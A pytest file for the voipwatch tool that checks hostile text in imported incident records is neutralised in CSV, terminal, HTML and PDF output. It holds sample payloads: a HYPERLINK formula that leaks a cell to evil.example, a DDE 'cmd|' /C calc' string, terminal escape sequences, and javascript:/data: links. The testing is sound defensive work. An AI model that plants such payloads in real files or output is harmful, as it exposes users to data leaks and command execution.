"""Hostile text stays text: formulas in CSV, escapes in the terminal, script links.

Cases are imported through ``voipwatch cases import`` (the OONI-incidents format and
voipwatch's own JSONL) with a title that is a spreadsheet formula and a terminal escape
sequence, a cause starting with ``@`` and ``javascript:`` / ``data:`` links; then every
output that shows them is read back.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import shutil
import zlib
from pathlib import Path

import duckdb
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from voipwatch.cli import app
from voipwatch.untrusted import csv_cell, terminal_text, web_link
from voipwatch.web.app import create_app

ESC_TITLE = "\x1b]0;pwned\x07\x1b[2J\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
BAD_LINKS = ["javascript:alert(1)", "JavaScript:alert(2)", "data:text/html,<script>x</script>"]
GOOD_LINK = "https://example.org/report"

NATIVE = {
    "country": "BR",
    "apps": ["telegram"],
    "kind": "service_block",
    "start": "2023-04-26",
    "end": "2023-04-28",
    "title": FORMULA + ESC_TITLE,
    "cause": "@SUM(1+1)*cmd|' /C calc'!A0",
    "links": [*BAD_LINKS, GOOD_LINK],
}
OONI = {
    "incidents": [
        {
            "id": "7",
            "title": "-2+3+cmd|' /C calc'!A0 " + ESC_TITLE,
            "start_time": "2024-01-02T00:00:00Z",
            "end_time": "2024-01-05T00:00:00Z",
            "CCs": ["IR"],
            "ASNs": [44244],
            "test_names": ["whatsapp"],
            "tags": ["whatsapp"],
            "links": [*BAD_LINKS, GOOD_LINK],
        }
    ]
}


def pdf_text(data: bytes) -> bytes:
    """The PDF's bytes with every Flate stream inflated (link actions live in them)."""
    parts = [data]
    for m in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.S):
        with contextlib.suppress(zlib.error):
            parts.append(zlib.decompressobj().decompress(m.group(1)))
    return b"\n".join(parts)


def run(*args: str) -> tuple[int, str, str]:
    r = CliRunner().invoke(app, list(args))
    if r.exception and not isinstance(r.exception, SystemExit):
        raise r.exception
    return r.exit_code, r.stdout, r.stderr


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "s.duckdb"
    native = folder / "cases.jsonl"
    native.write_text(json.dumps(NATIVE) + "\n")
    ooni = folder / "incidents.json"
    ooni.write_text(json.dumps(OONI))
    for path in (native, ooni):
        code, out, err = run("cases", "import", str(path), "--db", str(db), "--json")
        assert code == 0, err
        assert json.loads(out)["new"] == 1
    return db


def test_csv_cell_neutralises_formulas_not_numbers() -> None:
    for text in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", FORMULA):
        assert csv_cell(text) == "'" + text
    for same in ("-3", "+1.5e3", "-.5", "ok", "", "a=b", 5, None):
        assert csv_cell(same) == same


def test_terminal_text_escapes_controls_only() -> None:
    shown = terminal_text("a\x1b[2Jb\x07\x9b\u202ec\td\ne")
    assert shown == "a\\x1b[2Jb\\x07\\x9b\\u202ec\td\ne"
    assert terminal_text("Telegram → blocked, ünïcode") == "Telegram → blocked, ünïcode"


def test_web_link_only_web_addresses() -> None:
    assert web_link(GOOD_LINK) == GOOD_LINK
    for bad in (*BAD_LINKS, " javascript:x", "https://a b", "https://x\x1b", "http://", 5, None):
        assert web_link(bad) is None


def test_links_are_filtered_at_import(store: Path) -> None:
    code, out, _ = run("cases", "list", "--db", str(store), "--json")
    assert code == 0
    cases = [json.loads(line) for line in out.splitlines()]
    assert len(cases) == 2
    for case in cases:
        links = [u for s in case["sources"] for u in s["links"]]
        assert GOOD_LINK in links
        assert not [u for u in links if not u.startswith(("https://", "http://"))], links


def test_csv_exports_neutralise_formulas(store: Path) -> None:
    for table in ("cases", "sources"):
        code, out, err = run(
            "cases", "export", "--db", str(store), "--format", "csv", "--table", table
        )
        assert code == 0, err
        rows = list(csv.DictReader(io.StringIO(out)))
        cells = [v for r in rows for v in r.values() if v]
        assert any(FORMULA in v for v in cells), table
        for v in cells:
            assert not v.startswith(("=", "+", "@", "\t", "\r")), (table, v)
            assert not v.startswith("-") or v.lstrip("-").replace(".", "").isdigit(), (table, v)
    with TestClient(create_app(store), base_url="http://127.0.0.1") as c:
        r = c.get("/api/v1/cases", params={"format": "CSV"})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert {row["title"][:1] for row in rows} == {"'"}
    assert any(row["cause"] == "'" + NATIVE["cause"] for row in rows)


def test_human_output_escapes_terminal_sequences_json_stays_exact(store: Path) -> None:
    code, out, _ = run("cases", "list", "--db", str(store))
    assert code == 0
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\\x1b]0;pwned\\x07" in out
    code, out, _ = run("cases", "list", "--db", str(store), "--json")
    titles = {json.loads(line)["title"] for line in out.splitlines()}
    assert NATIVE["title"] in titles
    case_id = next(
        json.loads(line)["case_id"]
        for line in out.splitlines()
        if json.loads(line)["country"] == "BR"
    )
    code, out, _ = run("cases", "show", case_id, "--db", str(store))
    assert code == 0
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\\x1b[2J" in out
    code, out, _ = run("cases", "show", case_id, "--db", str(store), "--json")
    assert json.loads(out)["title"] == NATIVE["title"]


def test_verdicts_human_output_escapes_measurement_fields(tmp_path: Path) -> None:
    fixture = Path(__file__).parents[1] / "fixtures" / "measurements"
    source = next(p for p in sorted(fixture.glob("*.json*")) if p.suffix in (".json", ".jsonl"))
    first = json.loads(
        source.read_text().splitlines()[0] if source.suffix == ".jsonl" else source.read_text()
    )
    if isinstance(first, list):
        first = first[0]
    first["probe_cc"] = "IR\x1b]0;owned\x07"
    first["measurement_uid"] = "20240101\x1b[2Juid"
    path = tmp_path / "m.jsonl"
    path.write_text(json.dumps(first) + "\n")
    code, out, err = run("verdicts", str(path))
    assert code == 0, err
    assert "\\x1b[2Juid" in out
    assert "\x1b" not in out + err
    assert "\x07" not in out + err
    _code, out, _ = run("verdicts", str(path), "--json")
    v = json.loads(out.splitlines()[0])
    assert v["measurement_uid"] == first["measurement_uid"]


# WeasyPrint warns when the system lacks HarfBuzz's subsetter; the PDF is still whole.
@pytest.mark.filterwarnings("ignore:HarfBuzz-Subset:DeprecationWarning")
def test_brief_has_no_script_links(store: Path, tmp_path: Path) -> None:
    # A store holding links from before they were checked at import: the outputs filter too.
    old = Path(shutil.copy(store, tmp_path / "old.duckdb"))
    with duckdb.connect(str(old)) as con:
        for table, column in (("case_sources", "record"), ("cases", "body")):
            con.execute(
                f"UPDATE {table} SET {column} = replace({column}, ?, ?)",
                [json.dumps(GOOD_LINK), '"javascript:alert(9)",' + json.dumps(GOOD_LINK)],
            )
        assert con.execute(
            "SELECT count(*) FROM cases WHERE body LIKE '%javascript:alert(9)%'"
        ).fetchone() == (2,)
    for db in (store, old):
        for country in ("BR", "IR"):
            html = tmp_path / f"{country}.html"
            code, _, err = run("report", "--db", str(db), "--country", country, "--out", str(html))
            assert code == 0, err
            text = html.read_text()
            assert "javascript:" not in text.lower()
            assert "data:text" not in text.lower()
            assert "Content-Security-Policy" in text
            pdf = tmp_path / f"{country}.pdf"
            code, _, err = run(
                "report",
                "--db",
                str(db),
                "--country",
                country,
                "--format",
                "pdf",
                "--out",
                str(pdf),
            )
            assert code == 0, err
            data = pdf_text(pdf.read_bytes())
            assert b"javascript" not in data.lower(), country
            assert b"/URI" in data  # the good links stay links
